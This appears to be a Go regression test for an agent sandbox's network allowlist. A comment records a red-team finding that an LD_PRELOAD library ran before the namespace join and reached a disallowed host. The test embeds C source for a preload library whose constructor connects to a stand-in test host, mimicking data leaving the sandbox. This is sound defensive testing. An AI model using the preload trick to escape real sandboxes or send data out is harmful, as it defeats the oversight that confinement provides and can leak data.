package shim

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gatesh/egress/egresstest"
)

// preloadSource is a library that, wherever the dynamic loader runs its
// constructor (but in STANDIN: the test binary stands in for gatesh,
// which is linked statically, cmd/gatesh's static_test.go, and loads
// nothing), writes down the network namespace it runs in and then
// sends a request to the test host, as a library the agent named in
// LD_PRELOAD would send data out.
const preloadSource = `#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void) {
	char ns[128] = {0}, exe[256] = {0}, line[512];
	readlink("/proc/self/ns/net", ns, sizeof ns - 1);
	readlink("/proc/self/exe", exe, sizeof exe - 1);
	if (strcmp(exe, STANDIN) == 0)
		return;
	int f = open(MARKS, O_WRONLY | O_APPEND | O_CREAT, 0644);
	if (f >= 0) {
		int n = snprintf(line, sizeof line, "%s %s\n", ns, exe);
		write(f, line, n);
		close(f);
	}
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET;
	a.sin_port = htons(80);
	inet_pton(AF_INET, HOST, &a.sin_addr);
	if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
		const char *req = "GET /preloaded HTTP/1.0\r\n\r\n";
		write(s, req, strlen(req));
		read(s, line, sizeof line);
	}
	if (s >= 0)
		close(s);
}
`

// R6 of the second red team: a library the agent's environment names
// (LD_PRELOAD, or found through LD_LIBRARY_PATH) ran in the dynamic
// nsenter before it joined the allowlist's namespace, and reached a host
// not allowed. The helper that joins is static: the loader never runs in
// it, and the library loads only into the command, inside. The network
// daemon, which runs outside, is started without the loader's variables.
func TestNetworkPreloadDoesNotLoadBeforeTheJoin(t *testing.T) {
	host := egresstest.New(t)
	cc, err := exec.LookPath("cc")
	if err != nil {
		t.Skip("cc is not installed: no library to preload")
	}
	w := newNetWorld(t, 0, 0)
	w.config(t, "network = \"allowlist\"\n")
	libDir := filepath.Join(w.base, "lib")
	must(t, os.MkdirAll(libDir, 0o755))
	marks := filepath.Join(w.base, "marks")
	src := filepath.Join(w.base, "preload.c")
	must(t, os.WriteFile(src, []byte(preloadSource), 0o644))
	lib := filepath.Join(libDir, "libgatesh-preload.so")
	if out, err := exec.Command(cc, "-shared", "-fPIC", "-o", lib, src,
		fmt.Sprintf("-DMARKS=%q", marks), fmt.Sprintf("-DHOST=%q", host.A), fmt.Sprintf("-DSTANDIN=%q", w.bin+"/gatesh")).CombinedOutput(); err != nil {
		t.Skipf("cannot build the library: %v\n%s", err, out)
	}
	hostNetns, err := os.Readlink("/proc/self/ns/net")
	must(t, err)
	base := w.env
	for _, c := range []struct {
		name string
		env  []string
	}{
		{"LD_PRELOAD", []string{"LD_PRELOAD=" + lib}},
		{"LD_LIBRARY_PATH", []string{"LD_LIBRARY_PATH=" + libDir, "LD_PRELOAD=libgatesh-preload.so"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			os.Remove(marks)
			w.env = append(append([]string(nil), base...), c.env...)
			defer func() { w.env = base }()
			if out, status := w.run(t, "true"); status != 0 {
				t.Fatalf("a green command failed: %d %s", status, out)
			}
			if dec := w.lastDecision(t); dec["verdict"] != "auto_pass" || !strings.HasPrefix(fmt.Sprint(dec["network"]), "allowlist: ") {
				t.Fatalf("the command was not run in the allowlist: %v", dec)
			}
			data, err := os.ReadFile(marks)
			if err != nil || len(data) == 0 {
				t.Fatalf("the library never loaded, not even into the command: %v", err)
			}
			inside := 0
			for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
				if strings.HasPrefix(line, hostNetns+" ") {
					t.Errorf("the library ran in the machine's network namespace: %s", line)
				} else {
					inside++
				}
			}
			if inside == 0 {
				t.Errorf("the library did not load into the command inside the namespace: %s", data)
			}
			for _, r := range host.Seen() {
				if r.Path == "/preloaded" {
					t.Errorf("the library reached the host not allowed: %+v", r)
				}
			}
		})
	}
}
